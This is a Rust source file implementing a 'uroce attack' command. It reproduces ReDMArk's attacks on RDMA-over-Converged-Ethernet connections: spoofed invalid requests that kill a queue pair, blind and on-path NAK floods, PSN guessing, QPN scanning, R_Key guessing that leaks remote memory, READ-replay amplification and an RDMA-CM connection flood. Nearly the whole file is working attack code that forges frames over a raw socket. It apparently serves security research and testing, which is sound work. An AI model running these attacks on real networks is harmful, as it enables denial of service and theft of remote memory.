//! `uroce attack <kind> -i IFACE`: ReDMArk's attacks on a connection seen on the segment
//! ([`crate::attack`]), one outcome line each.

use crate::attack::{self, raw::RawSocket, Learner, Spoof};
use anyhow::{bail, Context, Result};
use std::process::ExitCode;
use std::time::{Duration, Instant};
use uroce_wire::{AethRepr, ExtHeaders, Msn, NakCode, Opcode, Psn, RethRepr, Syndrome};

/// The attacks.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
#[value(rename_all = "kebab-case")]
pub enum AttackKind {
    /// Invalid requests (a wrong R_Key) at the responder's expected PSN, from the requester's
    /// address (`--spoof`): IBTA moves the responder QP to ERR on the first one it accepts.
    KillQp,
    /// Blind error NAKs toward the requester from the responder's address: random PSN and MSN.
    NakFlood,
    /// Error NAKs toward the requester with the PSN and MSN an on-path attacker reads off the
    /// responder's last ACK.
    NakOnPath,
    /// Blind injection: invalid requests from the requester's full identity (addresses and
    /// UDP port, known to anyone on the segment; the QPN, as ReDMArk assumes, predictable)
    /// with guessed PSNs, never the sniffed one. One in 2^24 lands at the expected PSN.
    PsnGuess,
    /// Find the responder's QPN without reading it off the wire: requests from the
    /// requester's full identity to QPN `--from`, `--from`+1, ... with a PSN far ahead; the
    /// one live QP answers with a PSN-sequence-error NAK (rxe's QPNs start at 0x11 and count
    /// up; uroce's are random in 24 bits).
    QpnScan,
    /// R_Key guessing (ReDMArk's first attack): one-packet READs of the sniffed VA from the
    /// requester's full identity at the responder's expected PSN, each with a guessed R_Key
    /// (`--guess`). A right key sends the responder's memory toward the requester, where the
    /// attacker's mirror port sees it; a wrong one gets a remote-access-error NAK and ends the
    /// connection (§9.7.5.2.4: the responder QP to ERR), so a connection gives the attacker about
    /// one guess.
    RkeyGuess,
    /// Resource exhaustion by replay: the latest READ request seen, sent again and again
    /// (`--count`, one per `--probe-us`): duplicates the responder may execute again
    /// (§9.7.5.1.3), each sending the READ's bytes toward the requester. Reported: the READ
    /// response bytes beyond what the requester asked for, per byte the attacker sent.
    ReadReplay,
    /// Connection-state exhaustion through RDMA-CM (off-path, the SYN flood's twin): REQs to
    /// `--target`'s rdma_cm listener on `--port`, each a new connection from the attacker's own
    /// address, never followed up ([`attack::cm_flood`]); counts what the target answers.
    CmFlood,
    /// Only watch: the QPNs and R_Keys seen, for prediction.
    Observe,
}

/// How `rkey-guess` picks its keys.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
#[value(rename_all = "kebab-case")]
pub enum Guess {
    /// `--rkey-from`, then one up each time.
    Sequential,
    /// Uniform in 32 bits.
    Random,
    /// From the keys of earlier connections' regions (`--seen`): the bits they fix
    /// ([`attack::predict_rkey`]), the rest at random.
    Predict,
    /// The R_Key sniffed off this connection: what a right guess gets.
    Sniffed,
}

/// `uroce attack`'s flags.
#[derive(clap::Args, Debug)]
pub struct AttackArgs {
    /// The attack.
    #[arg(value_enum)]
    kind: AttackKind,
    /// The interface that sees the connection (a mirror port).
    #[arg(short = 'i', long)]
    iface: String,
    /// How the forged frames claim their source (kill-qp).
    #[arg(long, value_enum, default_value = "full")]
    spoof: Spoof,
    /// Frames to send (kill-qp default 4096, nak-flood 100000, nak-on-path 256, psn-guess
    /// 100000, rkey-guess 4096 at most, read-replay 1000, cm-flood 1024; qpn-scan: QPNs to try,
    /// default 4096).
    #[arg(long)]
    count: Option<u64>,
    /// qpn-scan: the first QPN tried (rxe's first is 0x11).
    #[arg(long, default_value = "0x11", value_parser = parse_qpn)]
    from: u32,
    /// qpn-scan: µs to wait for NAKs after each batch of 16 probes; read-replay and cm-flood:
    /// µs between frames.
    #[arg(long, default_value_t = 2000)]
    probe_us: u64,
    /// qpn-scan: passes over the range while nothing is found (a lost probe hides the live QP
    /// from one pass).
    #[arg(long, default_value_t = 1)]
    passes: u32,
    /// rkey-guess: how the keys are picked.
    #[arg(long, value_enum, default_value = "random")]
    guess: Guess,
    /// rkey-guess --guess sequential: the first key.
    #[arg(long, default_value = "0x100", value_parser = parse_key)]
    rkey_from: u32,
    /// rkey-guess --guess predict: R_Keys seen on earlier connections to the same responder,
    /// oldest first (`uroce attack observe` prints them).
    #[arg(long, value_delimiter = ',', value_parser = parse_key)]
    seen: Vec<u32>,
    /// cm-flood: the target's address.
    #[arg(long)]
    target: Option<std::net::Ipv4Addr>,
    /// cm-flood: the port of the target's rdma_cm listener (perftest -R: 18515; rping: 7174).
    #[arg(long, default_value_t = 18515)]
    port: u16,
    /// Seconds to wait for a connection to learn.
    #[arg(long, default_value_t = 20)]
    learn_timeout: u64,
    /// Milliseconds to watch the connection after the attack before judging it.
    #[arg(long, default_value_t = 500)]
    watch_ms: u64,
}

fn parse_key(v: &str) -> Result<u32, String> {
    match v.strip_prefix("0x") {
        Some(h) => u32::from_str_radix(h, 16),
        None => v.parse(),
    }
    .map_err(|_| format!("`{v}` is not a 32-bit key"))
}

fn parse_qpn(v: &str) -> Result<u32, String> {
    let n = match v.strip_prefix("0x") {
        Some(h) => u32::from_str_radix(h, 16),
        None => v.parse(),
    };
    n.ok().filter(|&q| q < 1 << 24).ok_or_else(|| format!("`{v}` is not a 24-bit QPN"))
}

/// PSN-sequence-error NAKs the learner has seen from the responder.
fn seq_naks(l: &Learner) -> u64 {
    l.l.naks.get("PsnSequenceError").copied().unwrap_or(0)
}

/// How far ahead of the last PSN seen from the requester the `i`th aimed frame goes: cycling
/// through 1..=32 for the first 1,024 frames, then through twice as many PSNs per 1,024 frames
/// (up to 512). A frame lands when it meets the responder's expected PSN; an attacker that
/// reads the wire late (a busy machine: `tests/attack_cli.rs` once saw 4,096 frames all land
/// behind a 100 kpps flow) sees a PSN further behind, and a frame ahead is only dropped out of
/// sequence.
fn aim(i: u64) -> u32 {
    let window = 32u64 << (i / 1024).min(4);
    1 + (i % window) as u32
}

/// Keep draining into the learner for `d`.
fn settle(sock: &RawSocket, learner: &mut Learner, buf: &mut [u8], d: Duration) -> Result<()> {
    let until = Instant::now() + d;
    while Instant::now() < until {
        drain(sock, learner, buf)?;
    }
    Ok(())
}

/// Keep draining into the learner until `done`, until the responder has been quiet for
/// `quiet`, or for `cap` at most: a slow responder (rxe in a TCG guest) answers a burst of
/// forged requests long after the last was sent.
fn settle_until(
    sock: &RawSocket,
    learner: &mut Learner,
    buf: &mut [u8],
    quiet: Duration,
    cap: Duration,
    done: impl Fn(&Learner) -> bool,
) -> Result<()> {
    let start = Instant::now();
    let (mut seen, mut last_change) = (learner.l.responses, start);
    while !done(learner) && start.elapsed() < cap && last_change.elapsed() < quiet {
        drain(sock, learner, buf)?;
        if learner.l.responses != seen {
            (seen, last_change) = (learner.l.responses, Instant::now());
        }
    }
    Ok(())
}

/// Drain everything that arrived (without waiting) into the learner: a backlog would leave
/// the attacker's idea of the PSNs behind the connection's.
fn drain(sock: &RawSocket, learner: &mut Learner, buf: &mut [u8]) -> Result<()> {
    for _ in 0..1_000_000 {
        match sock.recv(buf, Duration::ZERO)? {
            Some(n) => learner.see(Instant::now(), &buf[..n]),
            None => break,
        }
    }
    Ok(())
}

/// `uroce attack`.
pub fn run(a: &AttackArgs) -> Result<ExitCode> {
    let sock =
        RawSocket::open(&a.iface).with_context(|| format!("AF_PACKET socket on {} (needs CAP_NET_RAW)", a.iface))?;
    let own = uroce_io::netif::Interface::by_name(&a.iface).with_context(|| format!("interface {}", a.iface))?;
    let own_mac = own.mac;
    if a.kind == AttackKind::CmFlood {
        return cm_flood(a, &sock, &own);
    }
    let mut learner = Learner::default();
    if !attack::learn(&sock, &mut learner, Duration::from_secs(a.learn_timeout))? {
        bail!("no RC connection with traffic both ways seen on {} in {} s", a.iface, a.learn_timeout);
    }
    let (req, resp) = (learner.l.requester.expect("ready"), learner.l.responder.expect("ready"));
    let mut buf = vec![0u8; 65536];
    let mut sent = 0u64;
    // qpn-scan: (the QPN found, QPNs tried in the last pass, passes)
    let mut scan: Option<(Option<u32>, u32, u32)> = None;
    // the kind's own report, appended to the outcome line, and an outcome it decides itself
    let mut extra = String::new();
    let mut decided: Option<&str> = None;
    let t0 = Instant::now();
    match a.kind {
        AttackKind::KillQp => {
            let reth = learner.l.reth.context("no RETH seen: the connection carries no WRITE or READ")?;
            let src_mac = if a.spoof == Spoof::OwnMac { own_mac } else { req.mac };
            let sport = if a.spoof == Spoof::OtherPort { (req.sport ^ 0x0101) | 0xc000 } else { req.sport };
            let ext = ExtHeaders {
                reth: Some(RethRepr { va: reth.va, rkey: reth.rkey.wrapping_add(0x1000_0000), dma_len: 8 }),
                ..ExtHeaders::default()
            };
            let fatal = |l: &Learner| {
                ["RemoteAccessError", "InvalidRequest"]
                    .iter()
                    .map(|k| l.l.naks.get(*k).copied().unwrap_or(0))
                    .sum::<u64>()
            };
            let fatal_before = fatal(&learner);
            for i in 0..a.count.unwrap_or(4096) {
                // one frame per 10 µs, each aimed afresh: the sniffed PSN lags the responder's
                let until = Instant::now() + Duration::from_micros(10);
                while Instant::now() < until {
                    drain(&sock, &mut learner, &mut buf)?;
                }
                if fatal(&learner) > fatal_before {
                    break;
                }
                // at or ahead of the requester's next PSN, where the responder's expected PSN
                // is when the frame arrives (ahead of it: out of sequence, dropped; behind: a
                // duplicate)
                let psn = learner.l.psn.expect("ready").add(aim(i));
                let f = attack::forge((src_mac, sport), &req, &resp, Opcode::RC_RDMA_WRITE_ONLY, psn, ext, &[0xa5; 8]);
                learner.sent(&f);
                sock.send(&f)?;
                sent += 1;
            }
        }
        AttackKind::NakFlood | AttackKind::NakOnPath => {
            let mut rng = crate::fuzz::Rng::new(t0.elapsed().as_nanos() as u64 ^ u64::from(std::process::id()));
            let n = a.count.unwrap_or(if a.kind == AttackKind::NakFlood { 100_000 } else { 256 });
            for i in 0..n {
                if a.kind == AttackKind::NakOnPath {
                    // one per 10 µs, each aimed afresh
                    let until = Instant::now() + Duration::from_micros(10);
                    while Instant::now() < until {
                        drain(&sock, &mut learner, &mut buf)?;
                    }
                } else if i % 64 == 0 {
                    drain(&sock, &mut learner, &mut buf)?;
                }
                let (psn, msn) = match a.kind {
                    AttackKind::NakFlood => {
                        (Psn::new(rng.next_u64() as u32 & 0xff_ffff), rng.next_u64() as u32 & 0xff_ffff)
                    }
                    _ => {
                        // a message the requester sent last (surely not ACKed yet when the NAK
                        // arrives): its first PSN, and the MSN the responder had before it,
                        // counted in messages from the last ACK seen
                        drain(&sock, &mut learner, &mut buf)?;
                        let (p, m) = learner.l.ack.expect("ready");
                        let ppm = learner.l.psns_per_message.max(1);
                        let ahead = learner.l.psn.expect("ready").diff(p.add(1)).max(0) as u32 / ppm;
                        let k = (ahead + 1).saturating_sub((i % 8) as u32);
                        (p.add(1 + k * ppm), (m + k) & 0xff_ffff)
                    }
                };
                let ext = ExtHeaders {
                    aeth: Some(AethRepr { syndrome: Syndrome::Nak(NakCode::InvalidRequest), msn: Msn::new(msn) }),
                    ..ExtHeaders::default()
                };
                let f = attack::forge((resp.mac, resp.sport), &resp, &req, Opcode::RC_ACKNOWLEDGE, psn, ext, &[]);
                learner.sent(&f);
                sock.send(&f)?;
                sent += 1;
            }
        }
        AttackKind::PsnGuess => {
            let reth = learner.l.reth.context("no RETH seen: the connection carries no WRITE or READ")?;
            let ext = ExtHeaders {
                reth: Some(RethRepr { va: reth.va, rkey: reth.rkey.wrapping_add(0x1000_0000), dma_len: 8 }),
                ..ExtHeaders::default()
            };
            let fatal = |l: &Learner| l.l.naks.get("RemoteAccessError").copied().unwrap_or(0);
            let fatal_before = fatal(&learner);
            let mut rng = crate::fuzz::Rng::new(t0.elapsed().as_nanos() as u64 ^ u64::from(std::process::id()));
            for i in 0..a.count.unwrap_or(100_000) {
                if i % 64 == 0 {
                    drain(&sock, &mut learner, &mut buf)?;
                    if fatal(&learner) > fatal_before {
                        break;
                    }
                }
                let psn = Psn::new(rng.next_u64() as u32 & 0xff_ffff);
                let f =
                    attack::forge((req.mac, req.sport), &req, &resp, Opcode::RC_RDMA_WRITE_ONLY, psn, ext, &[0xa5; 8]);
                learner.sent(&f);
                sock.send(&f)?;
                sent += 1;
            }
        }
        AttackKind::QpnScan => {
            let probe = |q: u32, l: &Learner| {
                // far ahead of the live QP's expected PSN: out of sequence, answered with a NAK
                let psn = l.l.psn.expect("ready").add(1 << 22);
                let to = attack::End { qpn: Some(q), ..resp };
                let ext = ExtHeaders { reth: Some(RethRepr { va: 0, rkey: 0, dma_len: 8 }), ..ExtHeaders::default() };
                attack::forge((req.mac, req.sport), &req, &to, Opcode::RC_RDMA_WRITE_ONLY, psn, ext, &[0x5a; 8])
            };
            let wait = Duration::from_micros(a.probe_us);
            let count = u64::from(a.count.map_or(4096, |c| c.min(1 << 24) as u32));
            let (mut found, mut passes) = (None, 0);
            let mut q = a.from;
            let end = (u64::from(a.from) + count).min(1 << 24) as u32;
            let mut prev: Vec<u32>;
            // again over the range while nothing is found: one lost probe (a guest's tap queue
            // full of the flow's frames) hides the live QP from a pass
            'scan: while passes < a.passes.max(1) {
                passes += 1;
                (q, prev) = (a.from, Vec::new());
                while q < end {
                    let batch: Vec<u32> = (q..end.min(q + 16)).collect();
                    q += batch.len() as u32;
                    let before = seq_naks(&learner);
                    for &c in &batch {
                        let f = probe(c, &learner);
                        learner.sent(&f);
                        sock.send(&f)?;
                        sent += 1;
                    }
                    settle(&sock, &mut learner, &mut buf, wait)?;
                    if seq_naks(&learner) == before {
                        prev = batch;
                        continue;
                    }
                    // a NAK after this batch (or a late one for the last): which QPN, one at a time,
                    // twice over — a responder NAKs a gap once until the requester's resend fills it,
                    // so each pass first lets the flow catch up
                    for _pass in 0..2 {
                        settle(&sock, &mut learner, &mut buf, wait * 4)?;
                        for &c in prev.iter().chain(&batch) {
                            let before = seq_naks(&learner);
                            let f = probe(c, &learner);
                            learner.sent(&f);
                            sock.send(&f)?;
                            sent += 1;
                            settle(&sock, &mut learner, &mut buf, wait * 4)?;
                            if seq_naks(&learner) > before {
                                found = Some(c);
                                break 'scan;
                            }
                        }
                    }
                    prev = batch;
                }
            }
            scan = Some((found, q - a.from, passes));
        }
        AttackKind::RkeyGuess => {
            let reth = learner.l.reth.context("no RETH seen: the connection carries no WRITE or READ")?;
            let pred = match a.guess {
                Guess::Predict => attack::predict_rkey(&a.seen),
                Guess::Sniffed => attack::RkeyPrediction { base: reth.rkey, mask: !0 },
                Guess::Sequential | Guess::Random => attack::RkeyPrediction::NONE,
            };
            let mut rng = crate::fuzz::Rng::new(t0.elapsed().as_nanos() as u64 ^ u64::from(std::process::id()));
            let (mut next, mut by_psn) = (a.rkey_from, std::collections::HashMap::new());
            let fatal_before = learner.l.last_nak.clone();
            let leaked = |l: &Learner, by_psn: &std::collections::HashMap<u32, u32>| {
                l.l.read_only_responses.iter().rev().find_map(|p| by_psn.get(&p.value()).copied())
            };
            // the PSN of a new fatal NAK (a guess that landed with a wrong key)
            let fatal = |l: &Learner| {
                l.l.last_nak
                    .as_ref()
                    .filter(|n| Some(*n) != fatal_before.as_ref())
                    .filter(|(_, k)| k == "RemoteAccessError" || k == "InvalidRequest")
                    .map(|(p, _)| p.value())
            };
            let (mut landed, mut leak) = (None, None);
            for i in 0..a.count.unwrap_or(4096) {
                // one READ per 10 µs, each aimed afresh at or just ahead of the requester's
                // next PSN (where the responder's expected PSN is when it arrives)
                let until = Instant::now() + Duration::from_micros(10);
                while Instant::now() < until {
                    drain(&sock, &mut learner, &mut buf)?;
                }
                if let Some(k) = leaked(&learner, &by_psn) {
                    (landed, leak) = (Some(k), Some(k));
                    break;
                }
                if let Some(p) = fatal(&learner) {
                    landed = by_psn.get(&p).copied();
                    break;
                }
                let key = match a.guess {
                    Guess::Sequential => {
                        next = next.wrapping_add(1);
                        next.wrapping_sub(1)
                    }
                    _ => pred.candidate(rng.next_u64() as u32),
                };
                let psn = learner.l.psn.expect("ready").add(aim(i));
                let ext = ExtHeaders {
                    reth: Some(RethRepr { va: reth.va, rkey: key, dma_len: 64 }),
                    ..ExtHeaders::default()
                };
                let f = attack::forge((req.mac, req.sport), &req, &resp, Opcode::RC_RDMA_READ_REQUEST, psn, ext, &[]);
                learner.sent(&f);
                sock.send(&f)?;
                by_psn.insert(psn.value(), key);
                sent += 1;
            }
            // responses trail the last guess: a slow responder works through the whole burst
            // first (rxe in a TCG guest answered from 65 ms after the last of 4096), so wait until
            // it is quiet
            if leak.is_none() && landed.is_none() {
                #[rustfmt::skip]
                settle_until(&sock, &mut learner, &mut buf, Duration::from_millis(200), Duration::from_secs(3),
                             |l| leaked(l, &by_psn).is_some() || fatal(l).is_some())?;
                leak = leaked(&learner, &by_psn);
                if let Some(p) = fatal(&learner) {
                    landed = by_psn.get(&p).copied();
                }
                landed = leak.or(landed);
            }
            let distinct: std::collections::HashSet<u32> = by_psn.values().copied().collect();
            if leak.is_some() {
                decided = Some("leaked");
            }
            extra = format!(
                " guess={:?} predicted={:#x}/{:#x} unknown_bits={} keys_tried={} landed_rkey={} sniffed_rkey={:#x} \
                 leaked_bytes={}",
                a.guess,
                pred.base & pred.mask,
                pred.mask,
                pred.unknown_bits(),
                distinct.len(),
                landed.map_or("-".to_string(), |k| format!("{k:#x}")),
                reth.rkey,
                if leak.is_some() { 64 } else { 0 },
            );
        }
        AttackKind::ReadReplay => {
            if learner.l.read_request.is_none() {
                attack::watch(&sock, &mut learner, Duration::from_secs(2))?;
            }
            learner.l.read_request.as_ref().context("no READ request seen: the connection carries no READ")?;
            // (first PSN, DMA length) of each READ replayed
            let mut replayed = std::collections::BTreeMap::new();
            let mut attacker_bytes = 0u64;
            for _ in 0..a.count.unwrap_or(1000) {
                let until = Instant::now() + Duration::from_micros(a.probe_us.min(1_000_000));
                while Instant::now() < until {
                    drain(&sock, &mut learner, &mut buf)?;
                }
                // the latest READ: the responder still holds its resources, as it holds the
                // last max_dest_rd_atomic READs (rxe drops a duplicate it has no resource for)
                let f = learner.l.read_request.clone().expect("seen");
                if let Ok(p) = uroce_wire::parse_frame(&f) {
                    replayed.insert(p.roce.bth.psn.value(), p.roce.ext.reth.map_or(0, |r| r.dma_len));
                }
                learner.sent(&f);
                sock.send(&f)?;
                attacker_bytes += f.len() as u64;
                sent += 1;
            }
            settle(&sock, &mut learner, &mut buf, Duration::from_millis(200))?;
            // each replayed READ was answered once for the requester; the rest is the replay's
            let (mut again, mut answered) = (0u64, 0u64);
            for (psn, len) in &replayed {
                let got = learner.l.reads.get(psn).map_or(0, |r| r.1);
                answered += u64::from(got > 0);
                again += got.saturating_sub(u64::from(*len));
            }
            extra = format!(
                " attacker_bytes={attacker_bytes} reads_replayed={} reads_answered={answered} replayed_bytes_sent={again} \
                 amplification={:.1}",
                replayed.len(),
                again as f64 / attacker_bytes.max(1) as f64
            );
        }
        AttackKind::Observe | AttackKind::CmFlood => {}
    }
    let attack_time = t0.elapsed();
    // judge by what the connection does once the attack's frames have settled (the second
    // half of the watch): requests still ACKed, or not
    let (reqs, resps) = (learner.l.requests, learner.l.responses);
    attack::watch(&sock, &mut learner, Duration::from_millis(a.watch_ms / 2))?;
    let (reqs0, acks0) = (learner.l.requests, learner.l.acks);
    attack::watch(&sock, &mut learner, Duration::from_millis(a.watch_ms - a.watch_ms / 2))?;
    let l = &learner.l;
    let (moved_req, moved_ack) = (l.requests - reqs0, l.acks - acks0);
    let naks: Vec<String> = l.naks.iter().map(|(k, v)| format!("{k}={v}")).collect();
    let outcome = if a.kind == AttackKind::Observe {
        "observed"
    } else if let Some(d) = decided {
        d
    } else if let Some((found, _, _)) = scan {
        if found.is_some() {
            "found"
        } else {
            "not-found"
        }
    } else if moved_req > 0 && moved_ack > 0 {
        "survived"
    } else {
        "killed"
    };
    println!(
        "uroce-attack: kind={:?} spoof={:?} sent={sent} in_ms={} outcome={outcome} requests_after={moved_req} \
         acks_after={moved_ack} during=({}/{}) responder_naks=[{}] requester={}:{:#x} qp={:#08x} \
         responder={}:{:#x} qp={:#08x} qpns_seen={:?} rkeys_seen={:x?}{}{extra}",
        a.kind,
        a.spoof,
        attack_time.as_millis(),
        reqs0 - reqs,
        l.responses - resps,
        naks.join(" "),
        req.ip,
        req.sport,
        req.qpn.unwrap_or(0),
        resp.ip,
        resp.sport,
        resp.qpn.unwrap_or(0),
        l.qpns,
        l.rkeys,
        scan.map_or(String::new(), |(f, tried, passes)| format!(
            " scan_from={:#08x} scan_tried={tried} scan_passes={passes} found_qp={}",
            a.from,
            f.map_or("-".to_string(), |q| format!("{q:#08x}"))
        ))
    );
    Ok(ExitCode::SUCCESS)
}

/// `uroce attack cm-flood`.
fn cm_flood(a: &AttackArgs, sock: &RawSocket, own: &uroce_io::netif::Interface) -> Result<ExitCode> {
    use attack::cm_flood::{req_frame, Answers, Ends};
    let target = a.target.context("cm-flood needs --target: the address of the target's rdma_cm listener")?;
    let me = *own.ipv4.first().with_context(|| format!("{} has no IPv4 address to send from", a.iface))?;
    let dst_mac = uroce_io::netif::resolve_mac(&a.iface, std::net::IpAddr::V4(target), Duration::from_secs(3))
        .with_context(|| format!("the MAC of {target}"))?;
    let e = Ends { src: (own.mac, me), dst: (dst_mac, target) };
    let mut rng = crate::fuzz::Rng::new(Instant::now().elapsed().as_nanos() as u64 ^ u64::from(std::process::id()));
    let (mut answers, mut buf, mut sent) = (Answers::default(), vec![0u8; 65536], 0u64);
    let drain = |answers: &mut Answers, buf: &mut [u8]| -> Result<()> {
        while let Some(n) = sock.recv(buf, Duration::ZERO)? {
            answers.see(&buf[..n], target, me);
        }
        Ok(())
    };
    let t0 = Instant::now();
    for _ in 0..a.count.unwrap_or(1024) {
        let until = Instant::now() + Duration::from_micros(a.probe_us.min(1_000_000));
        while Instant::now() < until {
            drain(&mut answers, &mut buf)?;
        }
        let r = rng.next_u64();
        let f = req_frame(&e, a.port, r as u32, (r >> 32) as u32, (r >> 40) as u32, 0x8000 | (r >> 48) as u16);
        sock.send(&f)?;
        sent += 1;
    }
    let in_ms = t0.elapsed().as_millis();
    // the answers that trail the last REQ (a REP's retries, late REJs)
    let until = Instant::now() + Duration::from_millis(a.watch_ms);
    while Instant::now() < until {
        if let Some(n) = sock.recv(&mut buf, Duration::from_millis(10))? {
            answers.see(&buf[..n], target, me);
        }
    }
    println!(
        "uroce-attack: kind=CmFlood target={target}:{} from={me} sent={sent} in_ms={in_ms} answered={} {}",
        a.port,
        answers.answered.len(),
        answers.line()
    );
    Ok(ExitCode::SUCCESS)
}
